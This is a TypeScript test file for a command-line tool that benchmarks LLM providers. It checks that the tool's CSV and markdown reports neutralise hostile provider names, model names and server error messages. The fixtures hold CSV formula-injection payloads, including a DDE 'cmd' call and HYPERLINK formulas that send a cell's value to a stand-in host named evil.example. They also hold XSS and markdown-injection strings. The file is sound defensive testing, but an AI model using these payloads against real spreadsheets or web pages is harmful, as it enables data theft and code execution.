import { spawnSync } from 'node:child_process';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { afterAll, describe, expect, it } from 'vitest';
import { run } from './cli-helpers.js';
import { emulator } from './helpers.js';

/**
 * Every CSV and markdown the tool writes, read by parsers we did not write: Python's csv module (the
 * RFC 4180 "excel" dialect, strict) and markdown-it (a CommonMark + GFM tables renderer, with raw HTML on,
 * as a GitHub step summary has it). The names, models and error messages come from a config and from
 * servers; each cell must read back as the same run's --format json says.
 */

/** Rows of a CSV as Python's csv.reader reads them (strict: a stray quote is an error, not a guess). */
function pythonCsv(text: string): string[][] {
  const script = "import csv, io, json, sys\ndata = sys.stdin.buffer.read().decode('utf-8')\nprint(json.dumps(list(csv.reader(io.StringIO(data, newline=''), dialect='excel', strict=True))))";
  const r = spawnSync('python3', ['-c', script], { input: text, encoding: 'utf8', timeout: 20_000 });
  if (r.status !== 0) throw new Error(`python3 csv.reader failed: ${r.stderr}`);
  return JSON.parse(r.stdout) as string[][];
}

/** The header names and each row as a record of them, after checking every row has the header's length. */
function csvRecords(text: string): Record<string, string>[] {
  const [head, ...rows] = pythonCsv(text);
  for (const r of rows) expect(r.length, `a CSV row has ${r.length} cells, the header ${head.length}: ${JSON.stringify(r)}`).toBe(head.length);
  return rows.map((r) => Object.fromEntries(head.map((h, i) => [h, r[i]])));
}

/** What a spreadsheet runs as a formula (OWASP "CSV Injection"; ASVS 5.0 1.2.10 adds NUL). */
const FORMULA_START = /^[=+\-@\t\r\0]/;
/** The text a CSV cell holds for a text value: OWASP's leading `'` before one that starts like a formula. */
const csvText = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);

const markdown = new MarkdownIt({ html: true });

interface RenderedTable {
  head: string[];
  rows: string[][];
}

/** The text of an inline token's children as a reader sees it; raw HTML among them is recorded in `html`. */
function inlineText(children: ReturnType<InstanceType<typeof MarkdownIt>['parseInline']>[number]['children'], html: string[]): string {
  let text = '';
  for (const c of children ?? []) {
    if (c.type === 'html_inline') html.push(c.content);
    if (c.type === 'text' || c.type === 'text_special' || c.type === 'code_inline' || c.type === 'html_inline') text += c.content;
    else if (c.type === 'softbreak' || c.type === 'hardbreak') text += '\n';
  }
  return text;
}

/** The bold labels our markdown writes: "Unhealthy:" (health), "2 threshold(s) failed:" (bench). */
const OUR_BOLD = /^(Unhealthy:|\d+ threshold\(s\) failed:)$/;

/** The tables, list items and paragraphs of a markdown document as markdown-it reads them, and any raw HTML in it. */
function renderMarkdown(source: string): { tables: RenderedTable[]; items: string[]; paragraphs: string[]; html: string[]; markup: string[] } {
  const tokens = markdown.parse(source, {});
  const tables: RenderedTable[] = [];
  const items: string[] = [];
  const paragraphs: string[] = [];
  const html: string[] = [];
  const markup: string[] = [];
  let row: string[] | undefined;
  let inHead = false;
  let inItem = 0;
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i];
    if (t.type === 'html_block') html.push(t.content);
    if (t.type === 'heading_open' && i > 0) markup.push(`heading after token ${i}`);
    if (t.type === 'table_open') tables.push({ head: [], rows: [] });
    if (t.type === 'thead_open') inHead = true;
    if (t.type === 'thead_close') inHead = false;
    if (t.type === 'tr_open') row = [];
    if (t.type === 'tr_close') {
      const table = tables[tables.length - 1];
      if (inHead) table.head = row!;
      else table.rows.push(row!);
      row = undefined;
    }
    if (t.type === 'list_item_open') inItem++;
    if (t.type === 'list_item_close') inItem--;
    if (t.type === 'inline') {
      // Our own bold labels are the only markup we write in a line; anything else came from a name or a message.
      const children = t.children ?? [];
      children.forEach((c, k) => {
        const ours = c.type === 'strong_open' && OUR_BOLD.test(children[k + 1]?.content ?? '') && children[k + 2]?.type === 'strong_close';
        if (/^(em|strong|s|link)_open$|^image$/.test(c.type) && !ours) markup.push(`${c.type} in ${JSON.stringify(t.content)}`);
      });
      const text = inlineText(t.children, html);
      if (row) row.push(text);
      else if (inItem) items.push(text);
      else paragraphs.push(text);
    }
  }
  return { tables, items, paragraphs, html, markup };
}

/** What a markdown cell should read as: a line break in a name is a space there, and GFM trims a cell. */
const mdText = (s: string) => mdInline(s).trim();
/** What a name inside a line of ours should read as: a line break is a space, nothing trimmed. */
const mdInline = (s: string) => s.replace(/\r\n|[\r\n]/g, ' ');

/** Checks every table's rows have the header's width and that no raw HTML or emphasis/link came through. */
function rendered(source: string) {
  const doc = renderMarkdown(source);
  for (const t of doc.tables) for (const r of t.rows) expect(r.length, `a markdown row has ${r.length} cells, the header ${t.head.length}: ${JSON.stringify(r)}`).toBe(t.head.length);
  expect(doc.html, 'raw HTML reached the markdown').toEqual([]);
  expect(doc.markup, 'server or config text became markup').toEqual([]);
  // The same check on the HTML a renderer writes: no element but the ones we write.
  const tags = new Set([...markdown.render(source).matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1].toLowerCase()));
  for (const tag of tags) expect(['h3', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'p', 'strong', 'code'], `<${tag}> in the rendered HTML`).toContain(tag);
  return doc;
}

/** Names and models chosen to break a CSV or a markdown table, or to be run by a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"open me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTabbed',
  ' lead, "quoted" and trail ',
  'line\r\nbreak and\rcarriage',
  '\uFEFFbom naïve 模型 🚀',
  'pipe | back\\slash \\| and `tick` ``two``',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '*em* _under_ __dunder__ snake_case_名_x a_*b*_c **strong** ~~strike~~ [link](http://x.example) ![i](http://x.example/i.png)',
  '# heading <!-- comment --> &amp; &lt;b&gt; &copy;',
  `very long ${'word '.repeat(80)}end`,
];

/** The config refuses a provider name holding a control or invisible character (it is typed on command lines): those are models only. */
const NAMES = HOSTILE.filter((s) => !/[\u0000-\u001f\ufeff]/.test(s));

const server = await emulator(Object.fromEntries(HOSTILE.map((_, i) => [`p${i}`, { dialect: 'openai' as const, output_tokens: { dist: 'constant' as const, value: 4 } }])));
const dir = mkdtempSync(join(tmpdir(), 'llmf-tables-'));
const env = { TABLES_KEY: 'sk-tables-0123456789', GITHUB_STEP_SUMMARY: '' };

/**
 * Providers named by the hostile names, with models named by the hostile texts (the ones holding line breaks,
 * tabs and a BOM among them); every other one priced. YAML is a superset of JSON: no escaping of our own.
 */
function hostileConfig(baseUrl: (i: number) => string): string {
  const providers = Object.fromEntries(
    NAMES.map((name, i) => [
      name,
      { api: 'openai', base_url: baseUrl(i), model: HOSTILE[(i + 4) % HOSTILE.length], api_key_env: 'TABLES_KEY', ...(i % 2 === 0 ? { price: { input: 1, cached_input: 0.1, output: 2, ...(i % 4 === 0 ? { priced_at: '2026-11-24' } : {}) } } : {}) },
    ]),
  );
  const file = join(dir, `providers-${Math.random().toString(36).slice(2)}.yaml`);
  writeFileSync(file, JSON.stringify({ providers }, null, 2));
  return file;
}

const config = hostileConfig((i) => server.baseUrl(`p${i}`));

interface JsonProvider {
  name: string;
  model: string;
  requests: number;
  ok: number;
  error_rate: number | null;
  tokens: { output: number; source: string };
  cost_usd: number | null;
  price: unknown;
  error_examples: Record<string, string>;
}

async function benchJson(args: string[], envOver: NodeJS.ProcessEnv = {}): Promise<{ providers: JsonProvider[]; picks: { fastest: string | null; cheapest: string | null } }> {
  const r = await run([...args, '--format', 'json'], { env: { ...env, ...envOver }, timeoutMs: 60_000 });
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout);
}

describe('CSV, as Python\'s csv module reads it', () => {
  it('bench --format csv: every row as wide as the header, every name and model as --format json has it', async () => {
    const out = join(dir, 'bench.json');
    const csv = await run(['bench', '--config', config, '-n', '2', '-q', '--format', 'csv', '--out', out], { env, timeoutMs: 60_000 });
    expect(csv.code, csv.stderr).toBe(0);
    const json = JSON.parse(readFileSync(out, 'utf8')) as { providers: JsonProvider[] };
    expect(json.providers.map((p) => p.name).sort()).toEqual([...NAMES].sort());
    const records = csvRecords(csv.stdout);
    expect(records.map((r) => r.provider)).toEqual(json.providers.map((p) => csvText(p.name)));
    for (const [i, p] of json.providers.entries()) {
      const r = records[i];
      expect(r.model).toBe(csvText(p.model));
      // Figures stay bare numbers: the formula guard is for text only (no quote before a number).
      expect(Number(r.requests)).toBe(p.requests);
      expect(Number(r.ok)).toBe(p.ok);
      expect(Number(r.error_rate)).toBe(p.error_rate);
      expect(Number(r.output_tokens)).toBe(p.tokens.output);
      expect(r.token_source).toBe(p.tokens.source);
      expect(r.cost_usd).toBe(p.price === null ? '' : String(p.cost_usd));
    }
    // No text cell starts like a formula (OWASP CSV Injection).
    for (const r of records) for (const v of Object.values(r)) expect(FORMULA_START.test(v), `cell ${JSON.stringify(v)} starts like a formula`).toBe(false);
  });

  it('merge --format csv (bench results merged) reads back the same', async () => {
    const a = join(dir, 'merge-a.json');
    const b = join(dir, 'merge-b.json');
    const half = NAMES.slice(0, 5);
    const rest = NAMES.slice(5);
    for (const [file, names] of [[a, half], [b, rest]] as const) {
      const r = await run(['bench', '--config', config, '-n', '1', '-q', '--format', 'json', '--out', file, '--', ...names], { env, timeoutMs: 60_000 });
      expect(r.code, r.stderr).toBe(0);
    }
    const merged = await run(['merge', a, b, '--format', 'csv'], { env });
    expect(merged.code, merged.stderr).toBe(0);
    const json = await run(['merge', a, b, '--format', 'json'], { env });
    const providers = (JSON.parse(json.stdout) as { providers: JsonProvider[] }).providers;
    const records = csvRecords(merged.stdout);
    expect(records.map((r) => [r.provider, r.model])).toEqual(providers.map((p) => [csvText(p.name), csvText(p.model)]));
  });

  it('cost --format csv: names, models and prices as --format json has them, every figure a bare number', async () => {
    const args = ['cost', '--config', config, '--output-tokens', '1M/day', '--input-tokens', '2M/day'];
    const csv = await run([...args, '--format', 'csv'], { env });
    expect(csv.code, csv.stderr).toBe(0);
    const json = await run([...args, '--format', 'json'], { env });
    expect(json.code, json.stderr).toBe(0);
    const report = JSON.parse(json.stdout) as { prices: { provider: string; model: string; input: number; output: number; priced_at?: string }[]; projection: { provider: string; daily: number | null }[] };
    const records = csvRecords(csv.stdout);
    expect(records.map((r) => r.provider)).toEqual(report.prices.map((p) => csvText(p.provider)));
    for (const [i, p] of report.prices.entries()) {
      expect(records[i].model).toBe(csvText(p.model));
      expect(Number(records[i].input_per_1m)).toBe(p.input);
      expect(Number(records[i].output_per_1m)).toBe(p.output);
      expect(records[i].priced_at).toBe(p.priced_at ?? '');
      const daily = report.projection.find((x) => x.provider === p.provider)?.daily;
      // The CSV writes money with its cents (4.00); as a number it is the JSON's figure.
      if (daily === null || daily === undefined) expect(records[i].daily).toBe('');
      else expect(Number(records[i].daily)).toBe(daily);
    }
    for (const r of records) for (const v of Object.values(r)) expect(FORMULA_START.test(v), `cell ${JSON.stringify(v)} starts like a formula`).toBe(false);
  });
});

/**
 * A provider server of our own (a hand-written stand-in for a hostile provider): on /error every answer is
 * a 400 whose message is a formula and HTML; on /ok a non-streamed 200 whose served model and finish
 * reason are formulas (the client reads a JSON answer to a streamed request, as some servers send one).
 */
async function hostileProvider(): Promise<{ url: (route: string) => string; close: () => Promise<void> }> {
  const handler = (req: IncomingMessage, res: ServerResponse) => {
    req.resume();
    req.on('end', () => {
      const route = (req.url ?? '').split('/')[1];
      if (route === 'error') {
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: { message: '=HYPERLINK("http://evil.example/steal?k="&A1,"Click") | <img src=x onerror=alert(1)> *bold* `tick`', type: '@invalid_request', code: '-1+cmd' } }));
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          id: 'x',
          object: 'chat.completion',
          model: '=cmd|\' /C calc\'!A0',
          choices: [{ index: 0, message: { role: 'assistant', content: 'ok' }, finish_reason: '=finish' }],
          usage: { prompt_tokens: 3, completion_tokens: 1, total_tokens: 4 },
        }),
      );
    });
  };
  const http = createServer(handler);
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const port = (http.address() as AddressInfo).port;
  return {
    url: (route) => `http://127.0.0.1:${port}/${route}/v1`,
    close: () => new Promise<void>((resolve) => http.close(() => resolve())),
  };
}

const hostile = await hostileProvider();
afterAll(() => hostile.close());
const hostileServerConfig = join(dir, 'hostile-server.yaml');
writeFileSync(
  hostileServerConfig,
  JSON.stringify({
    providers: {
      '=erring': { api: 'openai', base_url: hostile.url('error'), model: '+model', api_key_env: 'TABLES_KEY', price: { input: 1, output: 2 } },
      '@serving': { api: 'openai', base_url: hostile.url('ok'), model: '-model', api_key_env: 'TABLES_KEY', price: { input: 1, output: 2 } },
    },
  }),
);

describe('CSV formula injection (OWASP): text from a server or a config starting with = + - @ TAB CR', () => {
  it('bench against a server whose errors and served model are formulas: each such text cell gets a leading quote, figures none', async () => {
    const json = await benchJson(['bench', '--config', hostileServerConfig, '-n', '2', '-q', '--allow-failures']);
    const erring = json.providers.find((p) => p.name === '=erring')!;
    // The server's text did arrive (so the CSV below had the chance to carry it).
    expect(Object.values(erring.error_examples).join(' ')).toContain('=HYPERLINK(');
    const csv = await run(['bench', '--config', hostileServerConfig, '-n', '2', '-q', '--allow-failures', '--format', 'csv'], { env, timeoutMs: 60_000 });
    expect(csv.code, csv.stderr).toBe(0);
    const records = csvRecords(csv.stdout);
    expect(records.map((r) => [r.provider, r.model])).toEqual([
      ["'=erring", "'+model"],
      ["'@serving", "'-model"],
    ]);
    for (const r of records) for (const v of Object.values(r)) expect(FORMULA_START.test(v), `cell ${JSON.stringify(v)} starts like a formula`).toBe(false);
    expect(Number(records[0].failed)).toBe(2);
    expect(Number(records[1].ok)).toBe(2);
  });

  it('health --format markdown shows the server\'s error message as text: no HTML, no markup', async () => {
    const summary = join(dir, 'health-summary.md');
    const r = await run(['health', '--config', hostileServerConfig, '--format', 'markdown', '--timeout', '10s'], { env: { ...env, GITHUB_STEP_SUMMARY: summary }, timeoutMs: 60_000 });
    expect(r.code, r.stderr).toBe(1);
    const json = await run(['health', '--config', hostileServerConfig, '--format', 'json', '--timeout', '10s'], { env, timeoutMs: 60_000 });
    const report = JSON.parse(json.stdout) as { providers: { name: string; model: string; healthy: boolean; served_model: string | null; error_message: string | null }[]; failures: string[] };
    expect(report.providers.find((p) => p.name === '@serving')!.served_model).toBe("=cmd|' /C calc'!A0");
    for (const source of [r.stdout, readFileSync(summary, 'utf8')]) {
      const doc = rendered(source);
      expect(doc.tables).toHaveLength(1);
      expect(doc.tables[0].rows.map((row) => [row[0], row[1]])).toEqual(report.providers.map((p) => [mdText(p.name), mdText(p.model)]));
      // The failure line carries the server's message word for word.
      const unhealthy = doc.items.find((l) => l.startsWith('Unhealthy:'))!;
      expect(unhealthy).toBe(`Unhealthy: ${report.failures.map(mdText).join('; ')}`);
      expect(unhealthy).toContain('<img src=x onerror=alert(1)> *bold* `tick`');
    }
  });
});

describe('markdown, as markdown-it (CommonMark + GFM tables, raw HTML on) renders it', () => {
  it('bench --format markdown and the GITHUB_STEP_SUMMARY: one table, every cell as --format json has it', async () => {
    const summary = join(dir, 'bench-summary.md');
    const out = join(dir, 'md.json');
    // A threshold every provider fails: each failure line names its provider.
    const md = await run(['bench', '--config', config, '-n', '1', '-q', '--wide', '--fail-on', 'tps>100000000', '--format', 'markdown', '--out', out], { env: { ...env, GITHUB_STEP_SUMMARY: summary }, timeoutMs: 60_000 });
    expect(md.code, md.stderr).toBe(1);
    const json = JSON.parse(readFileSync(out, 'utf8')) as { providers: JsonProvider[]; picks: { fastest: string; cheapest: string } };
    for (const source of [md.stdout, readFileSync(summary, 'utf8')]) {
      const doc = rendered(source);
      expect(doc.tables).toHaveLength(1);
      const [table] = doc.tables;
      expect(table.head.slice(0, 3)).toEqual(['provider', 'model', 'ok/sent']);
      expect(table.rows.map((r) => [r[0], r[1], r[2]])).toEqual(json.providers.map((p) => [mdText(p.name), mdText(p.model), `${p.ok}/${p.requests}`]));
      expect(doc.items.find((l) => l.startsWith('Fastest: '))).toMatch(new RegExp(`^Fastest: ${escapeRe(mdInline(json.picks.fastest))} \\(lowest p50`));
      expect(doc.items.find((l) => l.startsWith('Cheapest: '))).toMatch(new RegExp(`^Cheapest: ${escapeRe(mdInline(json.picks.cheapest))} \\(lowest cost`));
      const failures = doc.items.filter((l) => l.startsWith('❌ '));
      expect(failures.map((l) => /^❌ tps>100000000 — (.*): tps FAILED: measured /s.exec(l)?.[1])).toEqual(json.providers.map((p) => mdInline(p.name)));
    }
  });

  // --repeat does not combine with a workload flag: two runs.
  for (const extra of [['--slo', 'ttft<=5s', '--repeat', '2'], ['--turns', '2', '--input-tokens', '20']]) {
    it(`bench ${extra.join(' ')}: every table under the main one names each provider as json does`, async () => {
      const names = NAMES.slice(5, 9);
      const out = join(dir, 'extras.json');
      const md = await run(['bench', '--config', config, '-n', '2', '-q', ...extra, '--format', 'markdown', '--out', out, '--', ...names], { env, timeoutMs: 120_000 });
      expect(md.code, md.stderr).toBe(0);
      const json = JSON.parse(readFileSync(out, 'utf8')) as { providers: JsonProvider[] };
      const doc = rendered(md.stdout);
      // The main table and, for --slo --repeat, goodput and the spread; for --turns, the workload and per-turn tables.
      expect(doc.tables.map((t) => t.head[1])).toEqual(extra[0] === '--slo' ? ['ok/sent', 'good', 'figure'] : ['ok/sent', 'in asked', 'turn 1 TTFT p50']);
      const meant = new Set(json.providers.map((p) => mdText(p.name)));
      for (const t of doc.tables) expect(new Set(t.rows.map((r) => r[0]))).toEqual(meant);
    });
  }

  it('bench --sweep: the capacity tables and each provider\'s steps heading', async () => {
    const names = [NAMES[6], NAMES[7]];
    const out = join(dir, 'sweep.json');
    const md = await run(['bench', '--config', config, '-q', '--slo', 'ttft<=5s', '--sweep', 'concurrency', '--step-duration', '200ms', '--max-requests', '40', '--format', 'markdown', '--out', out, '--', ...names], { env, timeoutMs: 120_000 });
    expect(md.code, md.stderr).toBe(0);
    const json = JSON.parse(readFileSync(out, 'utf8')) as { providers: JsonProvider[] };
    const doc = rendered(md.stdout);
    const meant = json.providers.map((p) => mdText(p.name));
    const summary = doc.tables.find((t) => t.head.includes('first failing'))!;
    expect(summary.rows.map((r) => r[0])).toEqual(meant);
    expect(doc.paragraphs.filter((l) => l.startsWith('Steps of '))).toEqual(meant.map((n) => `Steps of ${n}:`));
  });

  it('compare --format markdown: provider cells as the results name them', async () => {
    const a = join(dir, 'cmp-a.json');
    const b = join(dir, 'cmp-b.json');
    const names = NAMES.slice(5, 9);
    for (const file of [a, b]) {
      const r = await run(['bench', '--config', config, '-n', '2', '-q', '--format', 'json', '--out', file, '--', ...names], { env, timeoutMs: 60_000 });
      expect(r.code, r.stderr).toBe(0);
    }
    const md = await run(['compare', a, b, '--format', 'markdown'], { env });
    expect(md.code, md.stderr).not.toBe(2);
    const doc = rendered(md.stdout);
    expect(doc.tables).toHaveLength(1);
    expect(new Set(doc.tables[0].rows.map((r) => r[0]))).toEqual(new Set(names.map(mdText)));
  });

  it('cost --format markdown: prices, projection and the undated-price note name providers as json does', async () => {
    const args = ['cost', '--config', config, '--output-tokens', '1M/day'];
    const md = await run([...args, '--format', 'markdown'], { env });
    expect(md.code, md.stderr).toBe(0);
    const json = JSON.parse((await run([...args, '--format', 'json'], { env })).stdout) as { prices: { provider: string; model: string }[]; projection: { provider: string }[]; notes: string[] };
    const doc = rendered(md.stdout);
    expect(doc.tables).toHaveLength(2);
    expect(doc.tables[0].rows.map((r) => [r[0], r[1]])).toEqual(json.prices.map((p) => [mdText(p.provider), mdText(p.model)]));
    expect(doc.tables[1].rows.map((r) => r[0])).toEqual(json.projection.map((p) => mdText(p.provider)));
    expect(json.notes.length).toBeGreaterThan(0);
    expect(doc.paragraphs.at(-1)).toBe(json.notes.map(mdText).join('\n'));
  });
});

const escapeRe = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
